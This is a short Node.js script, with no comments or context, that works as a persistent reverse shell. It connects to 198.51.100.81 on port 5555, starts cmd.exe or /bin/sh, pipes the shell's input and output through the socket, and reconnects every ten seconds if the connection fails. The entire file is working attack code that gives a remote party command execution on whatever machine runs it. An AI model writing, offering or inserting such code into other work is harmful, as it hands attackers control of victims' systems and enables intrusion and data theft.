const net = require("net");
const { spawn } = require("child_process");

function connect() {
  const sock = net.connect(5555, "198.51.100.81", () => {
    const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
  });
  sock.on("error", () => setTimeout(connect, 10000));
}
connect();
